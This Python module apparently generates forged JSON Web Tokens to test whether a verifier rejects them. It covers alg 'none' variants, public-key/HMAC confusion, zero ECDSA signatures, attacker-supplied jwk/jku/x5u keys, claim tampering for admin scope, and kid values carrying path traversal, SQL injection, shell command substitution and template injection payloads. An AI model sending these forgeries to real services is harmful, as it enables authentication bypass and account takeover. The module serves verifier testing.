"""Makes access tokens that nobody issued, out of one that was: what `jwt_attacks.py` sends.

Each group is a function from the genuine token (and what is publicly known of the server's keys) to named forgeries.
None of them needs a secret of the server, so a sound verifier refuses every one. The ideas are those of RFC 8725
(JSON Web Token Best Current Practices), of RFC 7515 and 7519, and of published faults: CVE-2015-9235 (key confusion),
CVE-2018-0114 (embedded jwk), CVE-2022-21449 (psychic signatures), CVE-2023-51774 (sign/encrypt confusion).
"""

import hashlib
import json
import time
from base64 import b64encode
from collections.abc import Callable, Iterator

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.serialization import Encoding
from jwt_tools import (
    Genuine,
    decode,
    encode,
    encrypt,
    list_forms,
    make_certificate,
    respell,
    respell_plainly,
    seal,
    sign_ec,
    to_ec_jwk,
    to_jwk,
    to_spki,
)

Forgery = tuple[str, str]


def make_all(genuine: Genuine) -> list[Forgery]:
    """Every forgery, named and without repetition."""
    made = [forgery for group in GROUPS for forgery in group(genuine)]
    names = [name for name, _ in made]
    assert len(set(names)) == len(names), "two forgeries have one name"
    return [(name, token) for name, token in made if token != genuine.token]


def unsigned(genuine: Genuine) -> Iterator[Forgery]:
    """No algorithm at all, in the spellings that filters forget."""
    for alg in ("none", "None", "NONE", "nOnE", "none ", "", None, ["none"], 0, False, {"alg": "none"}):
        yield f"alg {alg!r}, no signature", genuine.reheaded({**genuine.header, "alg": alg}, "")
    yield "alg none, genuine signature", genuine.reheaded({**genuine.header, "alg": "none"})
    yield "alg none, kid left out", genuine.reheaded({"alg": "none", "typ": genuine.header.get("typ")}, "")
    yield "alg left out", genuine.reheaded(genuine.without("alg"), "")
    yield "ALG none beside alg", genuine.reheaded({**genuine.header, "ALG": "none"}, "")


def confused(genuine: Genuine) -> Iterator[Forgery]:
    """The public key taken for an HMAC secret, in every form in which libraries hold it."""
    for number, key in enumerate(genuine.public_keys):
        for form, secret in list_forms(key, genuine.jwks["keys"][number]):
            yield f"HS256 with public key {number} as {form}", genuine.mac({"alg": "HS256"}, secret)
        pem = to_spki(key, Encoding.PEM)
        yield f"HS384 with public key {number} as PEM", genuine.mac({"alg": "HS384"}, pem)
        yield f"HS512 with public key {number} as PEM", genuine.mac({"alg": "HS512"}, pem)
    yield "HS256 with an empty secret", genuine.mac({"alg": "HS256"}, b"")
    yield "HS256 with the secret 'secret'", genuine.mac({"alg": "HS256"}, b"secret")
    yield (
        "HS256 with the kid as secret",
        genuine.mac({"alg": "HS256"}, str(genuine.header.get("kid")).encode()),
    )
    for alg in ("RS384", "RS512", "PS256", "PS384", "PS512", "HS256", "rs256", "RS256 ", "RS1"):
        yield f"alg {alg!r} over the genuine signature", genuine.reheaded({**genuine.header, "alg": alg})


def misnamed(genuine: Genuine) -> Iterator[Forgery]:
    """A kid that leads to a secret we know: a file, a row of a query, the output of a command."""
    for kid, secret in (
        ("/dev/null", b""),
        ("../../../../../../../dev/null", b""),
        ("..\\..\\..\\..\\windows\\win.ini", b""),
        ("../../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
        ("x' UNION SELECT 'known' -- ", b"known"),
        ('x" UNION SELECT "known" -- ', b"known"),
        ("x'; SELECT 'known' --", b"known"),
        ("|echo known", b"known"),
        ("$(echo known)", b"known"),
        ("\u0000", b""),
        ("", b""),
        ("%00", b""),
        ("{{7*7}}", b"49"),
    ):
        yield f"kid {kid!r}, HMAC with what it may lead to", genuine.mac({"alg": "HS256", "kid": kid}, secret)
    for kid in (None, 0, -1, True, [], {}, [genuine.header.get("kid")], "x" * 4000):
        yield f"kid {str(kid)[:30]!r} of type {type(kid).__name__}, own key", genuine.sign({"kid": kid})
    yield "own key under the server's kid", genuine.sign({})
    yield "own key, kid left out", genuine.sign_whole(genuine.without("kid"))


def brought_along(genuine: Genuine) -> Iterator[Forgery]:
    """A key of ours in the header, or an address to fetch it from."""
    jwk, certificate = to_jwk(genuine.own_rsa.public_key()), make_certificate(genuine.own_rsa)
    trap = genuine.trap
    yield "jwk", genuine.sign({"jwk": jwk})
    yield "jwk without kid", genuine.sign({"jwk": jwk, "kid": None})
    yield "jwk under the server's kid", genuine.sign({"jwk": {**jwk, "kid": genuine.header.get("kid")}})
    yield "jku", genuine.sign({"jku": f"{trap}/jwks.json"})
    yield "jku with user info", genuine.sign({"jku": f"{trap.replace('://', '://swath.local@')}/jwks.json"})
    yield "jku of another kid", genuine.sign({"jku": f"{trap}/jwks.json", "kid": "ours"})
    yield "jku file:", genuine.sign({"jku": "file:///dev/null"})
    yield "x5u", genuine.sign({"x5u": f"{trap}/certificate.pem"})
    yield "x5c", genuine.sign({"x5c": [b64encode(certificate).decode()]})
    yield "x5t", genuine.sign({"x5t": encode(hashlib.sha1(certificate).digest())})
    yield "kid is an address", genuine.sign({"kid": f"{trap}/jwks.json"})
    yield "iss is ours, for discovery", genuine.sign({}, {"iss": trap})


def critical(genuine: Genuine) -> Iterator[Forgery]:
    """Rules that a verifier must understand or refuse (RFC 7515 section 4.1.11, RFC 7797)."""
    for name, header in (
        ("crit unknown", {"crit": ["http://evil.test/rule"], "http://evil.test/rule": True}),
        ("crit empty", {"crit": []}),
        ("crit names alg", {"crit": ["alg"]}),
        ("crit is text", {"crit": "exp"}),
        ("b64 false, critical", {"b64": False, "crit": ["b64"]}),
        ("b64 false, not critical", {"b64": False}),
        ("zip", {"zip": "DEF"}),
        ("cty JWT", {"cty": "JWT"}),
    ):
        yield f"{name}, genuine signature", genuine.reheaded({**genuine.header, **header})
        yield f"{name}, own key", genuine.sign(header)
    raw = json.dumps(genuine.claims, separators=(",", ":"))
    head = encode({**genuine.header, "b64": False, "crit": ["b64"]})
    yield "b64 false with the claims in plain", f"{head}.{raw}.{genuine.parts[2]}"


def elliptic(genuine: Genuine) -> Iterator[Forgery]:
    """Signatures of nothing, and keys of another kind."""
    for alg, size in (("ES256", 64), ("ES384", 96), ("ES512", 132), ("ES256K", 64), ("EdDSA", 64)):
        head = {**genuine.header, "alg": alg}
        yield f"{alg} with r = s = 0", genuine.reheaded(head, encode(bytes(size)))
    head = {**genuine.header, "alg": "ES256"}
    yield "ES256 with a zero in DER", genuine.reheaded(head, encode(bytes.fromhex("3006020100020100")))
    order = bytes.fromhex("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551")
    yield "ES256 with r = s = the order", genuine.reheaded(head, encode(order + order))
    yield "ES256 by own key", genuine.reheaded(head, sign_ec(genuine, head))
    head = {**head, "jwk": to_ec_jwk(genuine.own_ec)}
    yield "ES256 by own key in jwk", genuine.reheaded(head, sign_ec(genuine, head))
    size = len(decode(genuine.parts[2]))
    for name, signature in (
        ("zeros", bytes(size)),
        ("ones", b"\xff" * size),
        ("the number one", bytes(size - 1) + b"\x01"),
        ("empty", b""),
        ("one byte", b"\x00"),
        ("cut by one byte", decode(genuine.parts[2])[:-1]),
        ("longer by a zero", decode(genuine.parts[2]) + b"\x00"),
        ("a zero before", b"\x00" + decode(genuine.parts[2])),
        ("6,000 zeros", bytes(6000)),
    ):
        yield f"RS256 signature: {name}", genuine.reheaded(genuine.header, encode(signature))


def misshapen(genuine: Genuine) -> Iterator[Forgery]:
    """What is no compact JWS, or not quite."""
    head, body, tail = genuine.parts
    not_utf8, marked = b'{"alg":"none","x":"\xff"}', b"\xef\xbb\xbf" + decode(head)
    for name, token in (
        ("nothing but dots", ".."),
        ("one part", head),
        ("two parts", f"{head}.{body}"),
        ("signature left out", f"{head}.{body}."),
        ("claims left out", f"{head}..{tail}"),
        ("header left out", f".{body}.{tail}"),
        ("four parts", f"{head}.{body}.{tail}.{tail}"),
        ("five parts", f"{head}.{body}.{tail}.{tail}.{tail}"),
        ("parts in another order", f"{body}.{head}.{tail}"),
        ("dot before", f".{genuine.token}"),
        ("dot after", f"{genuine.token}."),
        ("comma for dot", genuine.token.replace(".", ",")),
        ("no token at all", "null"),
        ("undefined", "undefined"),
        ("star", "*"),
        ("header is null", f"{encode(None)}.{body}.{tail}"),
        ("header is an array", f"{encode([genuine.header])}.{body}.{tail}"),
        ("header is text", f"{encode('RS256')}.{body}.{tail}"),
        ("header is a number", f"{encode(1)}.{body}.{tail}"),
        ("header is no UTF-8", f"{encode(not_utf8)}.{body}."),
        ("header with a byte order mark", f"{encode(marked)}.{body}.{tail}"),
        ("header nested deeply", f"{encode(b'[' * 3000)}.{body}.{tail}"),
        ("claims are an array", f"{head}.{encode([genuine.claims])}.{tail}"),
        ("claims are null", f"{head}.{encode(None)}.{tail}"),
        ("claims nested deeply", f"{head}.{encode(b'[' * 3000)}.{tail}"),
        ("huge header", f"{encode({**genuine.header, 'x': 'x' * 20_000})}.{body}.{tail}"),
        ("huge claims", genuine.reclaimed(x="x" * 20_000)),
        ("60,000 characters", "a" * 60_000),
        ("flattened JSON", json.dumps({"protected": head, "payload": body, "signature": tail})),
        (
            "general JSON",
            json.dumps({"payload": body, "signatures": [{"protected": head, "signature": tail}]}),
        ),
    ):
        yield f"shape: {name}", token


def respelt(genuine: Genuine) -> Iterator[Forgery]:
    """The genuine token in another spelling: who blocks or revokes tokens by their text must not be got round."""
    head, body, tail = genuine.parts
    for name, token in (
        ("padding after the signature", f"{genuine.token}="),
        ("padding after the header", f"{head}=.{body}.{tail}"),
        ("padding after the claims", f"{head}.{body}==.{tail}"),
        ("a character of no alphabet in the signature", f"{head}.{body}.{tail[:9]}!{tail[9:]}"),
        ("an escaped line break in the signature", f"{head}.{body}.{tail[:9]}%0A{tail[9:]}"),
        ("a space in the signature", f"{head}.{body}.{tail[:9]} {tail[9:]}"),
        ("a tab before the signature", f"{head}.{body}.\t{tail}"),
        ("spare bits of the signature set", f"{head}.{body}.{respell(tail)}"),
        ("the signature in base64 with + and /", respell_plainly(head, body, tail)),
        ("header in other letters", f"{head.swapcase()}.{body}.{tail}"),
        ("quotes round it", f'"{genuine.token}"'),
        ("brackets round it", f"<{genuine.token}>"),
        ("the scheme twice", f"Bearer {genuine.token}"),
        ("two tokens", f"{genuine.token} {genuine.token}"),
        ("two tokens with a comma", f"{genuine.token},{genuine.token}"),
        (
            "a header with white space",
            f"{encode(json.dumps(genuine.header, indent=1).encode())}.{body}.{tail}",
        ),
    ):
        yield f"spelling: {name}", token


def doubled(genuine: Genuine) -> Iterator[Forgery]:
    """Members given twice: two readers of one token must not see two things."""
    text = decode(genuine.parts[0]).decode().rstrip("}")
    for name, header in (
        ("alg twice, none last", text + ',"alg":"none"}'),
        ("alg twice, none first", '{"alg":"none",' + text.lstrip("{") + "}"),
        ("alg twice, the second escaped", text + ',"\\u0061lg":"none"}'),
        ("kid twice", text + ',"kid":"/dev/null"}'),
    ):
        yield f"{name}, no signature", genuine.reheaded(encode(header.encode()), "")
        yield f"{name}, genuine signature", genuine.reheaded(encode(header.encode()))
    claims = decode(genuine.parts[1]).decode().rstrip("}") + ',"account":"someone-else"}'
    yield "a claim twice", f"{genuine.parts[0]}.{encode(claims.encode())}.{genuine.parts[2]}"


def reworded(genuine: Genuine) -> Iterator[Forgery]:
    """Other claims, under the genuine signature and under a key of our own."""
    now = int(time.time())
    for name, claims in (
        ("expires later", {"exp": now + 10**8}),
        ("expired", {"exp": now - 3600, "iat": now - 7200}),
        ("never expires", {"exp": None}),
        ("expires at infinity", {"exp": 10**400}),
        ("expires as text", {"exp": "2099-01-01T00:00:00Z"}),
        ("not before tomorrow", {"nbf": now + 86_400}),
        ("issued tomorrow", {"iat": now + 86_400}),
        ("another issuer", {"iss": "https://issuer.evil.test/"}),
        ("another audience", {"aud": "https://api.evil.test/"}),
        ("any audience", {"aud": "*"}),
        ("another account", {"account": "00000000-0000-0000-0000-000000000000"}),
        ("another client", {"sub": "admin", "client_id": "admin"}),
        ("every scope", {"scope": "tasking catalog ops sandbox admin"}),
        ("scope as a list", {"scope": ["admin"]}),
    ):
        yield f"{name}, genuine signature", genuine.reclaimed(**claims)
        yield f"{name}, own key", genuine.sign({}, claims)
    for typ in ("JWT", "id_token", "logout+jwt", "dpop+jwt", "AT+JWT", None):
        yield f"typ {typ!r}, own key", genuine.sign({"typ": typ})
        yield (
            f"typ {typ!r}, no signature",
            genuine.reheaded({**genuine.header, "typ": typ, "alg": "none"}, ""),
        )


def encrypted(genuine: Genuine) -> Iterator[Forgery]:
    """Encrypting needs the public key only: an encrypted token proves nothing about who made it."""
    inner = genuine.reheaded({"alg": "none"}, "").encode()
    for number, key in enumerate(genuine.public_keys):
        for alg, pad in (
            ("RSA-OAEP", padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)),
            ("RSA-OAEP-256", padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None)),
            ("RSA1_5", padding.PKCS1v15()),
        ):
            header = {"alg": alg, "enc": "A256GCM", "kid": genuine.header.get("kid")}
            yield (
                f"JWE {alg} of the claims to key {number}",
                encrypt(key, pad, header, decode(genuine.parts[1])),
            )
            nested = {**header, "cty": "JWT"}
            yield f"JWE {alg} of an unsigned JWT to key {number}", encrypt(key, pad, nested, inner)
    direct = {"alg": "dir", "enc": "A256GCM"}
    yield "JWE dir under zeros", seal(direct, b"", bytes(32), decode(genuine.parts[1]))
    yield "PBES2 with a million rounds", seal(
        {"alg": "PBES2-HS256+A128KW", "enc": "A256GCM", "p2s": encode(b"salt"), "p2c": 1_000_000},
        bytes(40), bytes(32), inner,
    )  # fmt: skip


GROUPS: tuple[Callable[[Genuine], Iterator[Forgery]], ...] = (
    unsigned, confused, misnamed, brought_along, critical, elliptic, misshapen, respelt, doubled, reworded, encrypted,
)  # fmt: skip
